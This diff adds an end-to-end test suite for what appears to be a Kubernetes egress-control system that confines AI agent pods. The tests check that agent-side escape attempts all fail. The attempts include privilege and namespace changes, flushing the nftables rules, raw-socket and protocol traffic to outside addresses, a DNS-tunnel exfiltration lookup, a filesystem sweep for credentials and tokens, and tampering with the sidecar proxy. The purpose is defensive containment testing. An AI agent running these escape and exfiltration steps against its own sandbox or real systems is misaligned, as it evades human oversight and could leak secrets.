@@ -1,0 +1,437 @@
+import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
+import { eventually } from '../support/eventually.ts'
+import {
+  agentPod,
+  CALLS,
+  CREDENTIAL,
+  inAgent,
+  inForce,
+  leftOutside,
+  running,
+  startVendor,
+  VENDOR,
+  type Vendor,
+} from './agents.ts'
+import { AGENTS, install } from './installation.ts'
+import { apply, get, type KubeObject, kube, kubectl, refusalOf } from './kubectl.ts'
+import { killProxy, proxyUidOf } from './node-access.ts'
+
+const GATEWAY = 'bypass'
+const POD = 'captive'
+let vendor: Vendor
+
+beforeAll(async () => {
+  await install(inject('installation'))
+  vendor = await startVendor(GATEWAY)
+  // Two addresses outside of everything: whatever reaches them has left.
+  await apply(agentPod(POD, GATEWAY))
+  await running(POD)
+  await inForce(GATEWAY)
+})
+afterAll(async () => {
+  await vendor?.[Symbol.asyncDispose]()
+})
+
+/** Runs a Python program in the agent's container; answers what it printed. */
+async function python(program: string, pod = POD): Promise<string> {
+  const { stdout, stderr } = await inAgent(pod, ['python3', '-c', program])
+  return `${stdout}${stderr}`.trim()
+}
+
+async function expectNothingLeft(pod = POD): Promise<void> {
+  const left = await leftOutside(pod)
+  if (left !== null) expect(left).toEqual([])
+}
+
+const attempt = (statement: string) => `
+import os, socket, ctypes
+try:
+  ${statement}
+  print('DONE')
+except Exception as e:
+  print(type(e).__name__, e)
+`
+
+describe('root in the agent’s container', () => {
+  test('cannot become the proxy, whose uid it can read nowhere but in its annotation', async () => {
+    const uid = await proxyUidOf(POD)
+    expect(await python(attempt(`os.setuid(${uid})`))).toMatch(/PermissionError|OSError/)
+    expect(await python(attempt('os.setgid(12345)'))).toMatch(/PermissionError|OSError/)
+  })
+
+  test.each([
+    ['open a raw socket', 'socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'],
+    ['open a packet socket', 'socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)'],
+    ['mark its packets', 's = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 36, 1)'],
+    ['enter another network', "import os; os.setns(os.open('/proc/1/ns/net', os.O_RDONLY), 0)"],
+    ['have a network of its own', 'os.unshare(0x40000000)'],
+    [
+      'mount',
+      "assert ctypes.CDLL(None, use_errno=True).mount(b'x', b'/mnt', b'tmpfs', 0, None) == 0, os.strerror(ctypes.get_errno())",
+    ],
+    [
+      'trace the proxy',
+      'assert ctypes.CDLL(None, use_errno=True).ptrace(16, 7, 0, 0) == 0, os.strerror(ctypes.get_errno())',
+    ],
+  ])('cannot %s', async (_what, statement) => {
+    expect(await python(attempt(statement))).not.toContain('DONE')
+  })
+
+  test('cannot flush the rules', async () => {
+    const { code } = await inAgent(POD, [
+      'sh',
+      '-c',
+      'nft flush ruleset || nft-cap flush ruleset || /usr/sbin/nft flush ruleset',
+    ])
+    expect(code).not.toBe(0)
+    expect((await inAgent(POD, CALLS.node('GET'))).stdout).toMatch(/^200/)
+  })
+})
+
+const connect = (family: string, address: string, port: number) =>
+  attempt(
+    `s = socket.socket(socket.${family}); s.settimeout(2); s.connect(('${address}', ${port})); s.sendall(b'hello\\n'); print('ANSWER', s.recv(99))`,
+  )
+const datagram = (family: string, address: string, port: number) =>
+  attempt(
+    `s = socket.socket(socket.${family}, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b'x' * 40, ('${address}', ${port})); print('ANSWER', s.recv(99))`,
+  )
+
+describe('no packet leaves', () => {
+  test.each([
+    ['TCP to an address, any port', connect('AF_INET', '198.51.100.7', 22)],
+    ['TCP to an address, 443', connect('AF_INET', '198.51.100.7', 443)],
+    ['TCP to an address, 80', connect('AF_INET', '198.51.100.7', 80)],
+    ['TCP over IPv6', connect('AF_INET6', '2001:db8:ffff::7', 443)],
+    ['DNS over TLS', connect('AF_INET', '198.51.100.7', 853)],
+    ['UDP', datagram('AF_INET', '198.51.100.7', 5000)],
+    ['QUIC', datagram('AF_INET', '198.51.100.7', 443)],
+    ['UDP over IPv6', datagram('AF_INET6', '2001:db8:ffff::7', 443)],
+    ['DNS to a server of its own', datagram('AF_INET', '198.51.100.7', 53)],
+    [
+      'SCTP',
+      attempt(
+        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(2); s.connect(('198.51.100.7', 443))",
+      ),
+    ],
+    [
+      'ICMP',
+      attempt(
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.settimeout(1); s.sendto(bytes([8,0,0,0,0,0,0,0]), ('198.51.100.7', 0)); s.recv(99)",
+      ),
+    ],
+  ])('by %s', async (_what, program) => {
+    const said = await python(program)
+    expect(said).not.toContain("ANSWER b'h")
+    await expectNothingLeft()
+  })
+
+  test('as a question for a name that says what is to be told', async () => {
+    const said = await python(attempt("print(socket.getaddrinfo('c2VjcmV0.tunnel.example.com', 443))"))
+    expect(said).toContain('gaierror')
+    await expectNothingLeft()
+  })
+
+  test('to a vendor’s address under another name, or to another vendor under its name', async () => {
+    const before = vendor.recorder.seen.length
+    const curl = (...args: string[]) => inAgent(POD, ['curl', '-sS', '-m', '5', '-k', ...args])
+    const host = await curl('-H', 'Host: other.test', `https://${VENDOR}/things`)
+    expect(host.stdout).toContain('misdirected')
+    const foreign = await curl('--connect-to', `other.test:443:${VENDOR}:443`, 'https://other.test/things')
+    expect(`${foreign.stdout}${foreign.code}`).not.toContain('"ok":true')
+    const literal = await curl('--resolve', 'other.test:443:198.51.100.9', 'https://other.test/')
+    expect(literal.code === 0 ? literal.stdout : 'refused').not.toContain('"ok":true')
+    expect(vendor.recorder.seen.length).toBe(before)
+    await expectNothingLeft()
+  })
+
+  test('to the address of the vendor’s server, past its name', async () => {
+    const before = vendor.recorder.seen.length
+    const { hostAddress } = inject('installation').environment
+    const direct = await inAgent(POD, [
+      'curl',
+      '-sS',
+      '-m',
+      '5',
+      '-k',
+      `https://${hostAddress}:${vendor.recorder.port}/things`,
+    ])
+    expect(direct.stdout).not.toContain('"ok":true')
+    expect(vendor.recorder.seen.length).toBe(before)
+  })
+})
+
+describe('the agent cannot reach into the sidecar', () => {
+  test('by its health port, a debugger or the internal API', async () => {
+    for (const port of [15_021, 9_229])
+      expect(await python(connect('AF_INET', '127.0.0.1', port))).toContain('ConnectionRefused')
+    expect((await inAgent(POD, ['sh', '-c', 'ls /var/run/chaperone /var/lib/chaperone'])).code).not.toBe(0)
+  })
+
+  test('and finds neither the credential nor a token in anything that it can read', async () => {
+    const program = `
+import os
+found = []
+wanted = [${JSON.stringify(CREDENTIAL)}.encode(), b'eyJhbGciOiJSUzI1NiIs']
+for root in ['/proc', '/etc', '/run', '/var', '/tmp', '/dev/shm', '/root', '/home']:
+  for folder, _, names in os.walk(root):
+    if '/task/' in folder: continue
+    for name in names:
+      path = os.path.join(folder, name)
+      if name in ('kmsg', 'kcore', 'kpagecount', 'kpageflags', 'pagemap', 'clear_refs') or path == '/proc/self/mem': continue
+      if path.startswith('/proc/%d/' % os.getpid()) or '/self/' in path: continue
+      try:
+        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+        data = os.read(fd, 1 << 20); os.close(fd)
+      except OSError:
+        continue
+      if any(w in data for w in wanted): found.append(path)
+print(found)
+`
+    // By standard input: on a command line the program would find itself.
+    const { stdout } = await kubectl(
+      ['exec', '-i', POD, '-n', AGENTS, '-c', 'agent', '--', 'python3', '-'],
+      program,
+    )
+    expect(stdout.trim()).toBe('[]')
+  })
+
+  test('by a command, a shell or a debug container of somebody who may do so elsewhere', async () => {
+    const inProxy = await kubectl(['exec', POD, '-n', AGENTS, '-c', 'chaperone-proxy', '--', 'id'])
+    expect(inProxy.code).not.toBe(0)
+    expect(inProxy.stderr).toContain('chaperone-proxy')
+    const debug = await kubectl([
+      'debug',
+      POD,
+      '-n',
+      AGENTS,
+      `--image=${inject('installation').environment.agentImage}`,
+      '--profile=sysadmin',
+      '--',
+      'true',
+    ])
+    expect(debug.code).not.toBe(0)
+    expect(debug.stderr).toMatch(/privileged|capabilities/)
+  })
+
+  test('by another image or other resources for the sidecar of a running pod', async () => {
+    const patch = (container: string, fields: object, ...args: string[]) =>
+      kubectl([
+        'patch',
+        'pod',
+        POD,
+        '-n',
+        AGENTS,
+        ...args,
+        '-p',
+        JSON.stringify({ spec: { initContainers: [{ name: container, ...fields }] } }),
+      ])
+    for (const container of ['chaperone-rules', 'chaperone-proxy']) {
+      const { code, stderr } = await patch(container, { image: 'other:1' })
+      expect(code).not.toBe(0)
+      expect(stderr).toContain('image of the sidecar')
+    }
+    const resized = await patch(
+      'chaperone-proxy',
+      { resources: { limits: { memory: '8Mi' } } },
+      '--subresource=resize',
+    )
+    expect(resized.code).not.toBe(0)
+  })
+})
+
+describe('a pod is governed or refused, naming the field', () => {
+  const container = (fields: object): Parameters<typeof agentPod>[2] => ({ container: fields })
+  const security = (securityContext: object) => container({ securityContext })
+  const spec = (fields: object): Parameters<typeof agentPod>[2] => ({ spec: fields })
+  const volume = (source: object) => spec({ volumes: [{ name: 'v', ...source }] })
+  test.each<[string, Parameters<typeof agentPod>[2], string | RegExp]>([
+    ['privileged', security({ privileged: true }), 'privileged'],
+    ['NET_ADMIN', security({ capabilities: { add: ['NET_ADMIN'] } }), 'capabilities.add'],
+    ['NET_RAW', security({ capabilities: { add: ['NET_RAW'] } }), 'capabilities.add'],
+    ['SYS_ADMIN', security({ capabilities: { add: ['SYS_ADMIN'] } }), 'capabilities.add'],
+    ['ALL capabilities', security({ capabilities: { add: ['ALL'] } }), 'capabilities.add'],
+    ['escalation', security({ allowPrivilegeEscalation: true }), 'allowPrivilegeEscalation'],
+    ['unmasked proc', security({ procMount: 'Unmasked' }), 'procMount'],
+    ['unconfined', security({ seccompProfile: { type: 'Unconfined' } }), 'seccompProfile'],
+    ['uid of a proxy', security({ runAsUser: 1_950_000_000 }), 'runAsUser'],
+    ['hostNetwork', spec({ hostNetwork: true }), 'hostNetwork'],
+    ['hostPID', spec({ hostPID: true }), 'hostPID'],
+    ['hostIPC', spec({ hostIPC: true }), 'hostIPC'],
+    ['shared processes', spec({ shareProcessNamespace: true }), 'shareProcessNamespace'],
+    ['hostPath', volume({ hostPath: { path: '/' } }), 'hostPath'],
+    ['a volume of the sidecar', volume({ name: 'chaperone-token', emptyDir: {} }), 'chaperone-token'],
+    [
+      'a container of the sidecar',
+      spec({ initContainers: [{ name: 'chaperone-proxy', image: 'x' }] }),
+      'chaperone-proxy',
+    ],
+    [
+      'a mount of the sidecar',
+      container({ volumeMounts: [{ name: 'chaperone-token', mountPath: '/t' }] }),
+      'chaperone-token',
+    ],
+    ['an unknown Gateway', { annotations: { 'chaperone.dev/gateway': 'nobody' } }, 'chaperone.dev/gateway'],
+    ['a host port', container({ ports: [{ containerPort: 80, hostPort: 80 }] }), /hostPort|^$/],
+    [
+      'a bad sysctl',
+      spec({ securityContext: { sysctls: [{ name: 'net.ipv4.ip_forward', value: '1' }] } }),
+      'sysctls',
+    ],
+  ])('%s', async (name, shape, wanted) => {
+    const pod = agentPod(`shape-${name.toLowerCase().replace(/[^a-z]+/g, '-')}`, GATEWAY, shape)
+    const refusal = (await refusalOf(pod)) ?? ''
+    if (refusal === '') await expectGoverned(pod)
+    expect(refusal).toMatch(wanted)
+  })
+})
+
+async function expectGoverned({ metadata: { name } }: KubeObject): Promise<void> {
+  type Pod = { readonly spec: { readonly initContainers: ReadonlyArray<{ readonly name: string }> } }
+  const found = await get<Pod>('pod', name, AGENTS)
+  await kube(['delete', 'pod', name, '-n', AGENTS, '--wait=false'])
+  expect(found?.spec.initContainers.slice(0, 2).map((each) => each.name)).toEqual([
+    'chaperone-rules',
+    'chaperone-proxy',
+  ])
+}
+
+describe('when a part of it is not there', () => {
+  test('an agent that sends with its first instruction, init containers included, is governed from the first byte', async () => {
+    const { agentImage: image } = inject('installation').environment
+    const send = (seconds: number) => `
+import socket, time, urllib.request
+until = time.time() + ${seconds}
+while True:
+  for address, kind in (('198.51.100.7', socket.SOCK_STREAM), ('198.51.100.8', socket.SOCK_DGRAM)):
+    try:
+      s = socket.socket(socket.AF_INET, kind); s.settimeout(0.2); s.connect((address, 443)); s.send(b'x')
+    except OSError: pass
+  if time.time() >= until: break
+`
+    const init = {
+      name: 'early',
+      image,
+      imagePullPolicy: 'IfNotPresent',
+      command: ['python3', '-c', send(0)],
+    }
+    await apply(
+      agentPod('hasty', GATEWAY, {
+        command: ['sh', '-c', `python3 -c "$0"; exec sleep infinity`, send(2)],
+        spec: { initContainers: [init] },
+      }),
+    )
+    await running('hasty')
+    expect((await inAgent('hasty', CALLS.node('GET'))).stdout).toBe('200 {"ok":true}\n')
+    await expectNothingLeft('hasty')
+  })
+
+  test('a proxy that is killed lets nothing out, and comes back by itself', async () => {
+    const before = vendor.recorder.seen.length
+    const restarts = async () =>
+      Number(
+        await kube([
+          'get',
+          'pod',
+          POD,
+          '-n',
+          AGENTS,
+          '-o',
+          "jsonpath={.status.initContainerStatuses[?(@.name=='chaperone-proxy')].restartCount}",
+        ]),
+      )
+    const had = await restarts()
+    const tries = inAgent(POD, [
+      'python3',
+      '-c',
+      `
+import socket, time
+seen = set()
+until = time.time() + 8
+while time.time() < until:
+  for address, port, kind in (('198.51.100.7', 443, socket.SOCK_STREAM), ('198.51.100.7', 22, socket.SOCK_STREAM), ('198.51.100.8', 443, socket.SOCK_DGRAM)):
+    s = socket.socket(socket.AF_INET, kind); s.settimeout(0.3)
+    try:
+      s.connect((address, port)); s.send(b'x'); seen.add('sent')
+    except OSError as e: seen.add(type(e).__name__)
+    s.close()
+print(sorted(seen))
+`,
+    ])
+    await killProxy(POD)
+    expect((await tries).stdout).toContain('ConnectionRefusedError')
+    await eventually(
+      'the proxy is started again',
+      async () => ((await restarts()) > had ? true : null),
+      30_000,
+    )
+    await eventually(
+      'calls pass again',
+      async () => ((await inAgent(POD, CALLS.node('GET'))).stdout.startsWith('200') ? true : null),
+      60_000,
+    )
+    expect(vendor.recorder.seen.length).toBe(before + 1)
+    await expectNothingLeft()
+  })
+
+  test('without the webhook’s configuration no annotated pod starts that has no sidecar', async () => {
+    await kube(['delete', 'mutatingwebhookconfiguration', 'chaperone-injector'])
+    const refusal = await eventually('the API server has noticed', async () => {
+      const said = await refusalOf(agentPod('slipped', GATEWAY))
+      if (said === null) await kube(['delete', 'pod', 'slipped', '-n', AGENTS, '--now'])
+      return said
+    })
+    expect(refusal).toMatch(/ValidatingAdmissionPolicy 'chaperone-pods'/)
+    await kube(['rollout', 'restart', 'deployment/chaperone-operator', '-n', 'chaperone-system'])
+    await kube([
+      'rollout',
+      'status',
+      'deployment/chaperone-operator',
+      '-n',
+      'chaperone-system',
+      '--timeout=90s',
+    ])
+    await eventually(
+      'pods are governed again',
+      async () => ((await refusalOf(agentPod('again', GATEWAY))) === null ? true : null),
+      30_000,
+    )
+    await expectGoverned(agentPod('again', GATEWAY))
+  })
+
+  test('with every operator gone no annotated pod starts at all', async () => {
+    await kube(['scale', 'deployment/chaperone-operator', '-n', 'chaperone-system', '--replicas=0'])
+    await kube([
+      'wait',
+      'pod',
+      '-l',
+      'app.kubernetes.io/component=operator',
+      '-n',
+      'chaperone-system',
+      '--for=delete',
+      '--timeout=60s',
+    ])
+    try {
+      expect(await refusalOf(agentPod('orphan', GATEWAY))).toContain('chaperone-webhook')
+      expect(
+        await refusalOf({ ...agentPod('free', GATEWAY), metadata: { name: 'free', namespace: AGENTS } }),
+      ).toBeNull()
+      expect((await inAgent(POD, CALLS.node('GET'))).stdout).toMatch(/^200/)
+    } finally {
+      await kube(['scale', 'deployment/chaperone-operator', '-n', 'chaperone-system', '--replicas=2'])
+      await kube([
+        'rollout',
+        'status',
+        'deployment/chaperone-operator',
+        '-n',
+        'chaperone-system',
+        '--timeout=90s',
+      ])
+      await kube(['delete', 'pod', 'free', '-n', AGENTS, '--ignore-not-found', '--wait=false'])
+    }
+  })
+})
+
+test('after all of that not one packet has left the pod', async () => {
+  await expectNothingLeft()
+})
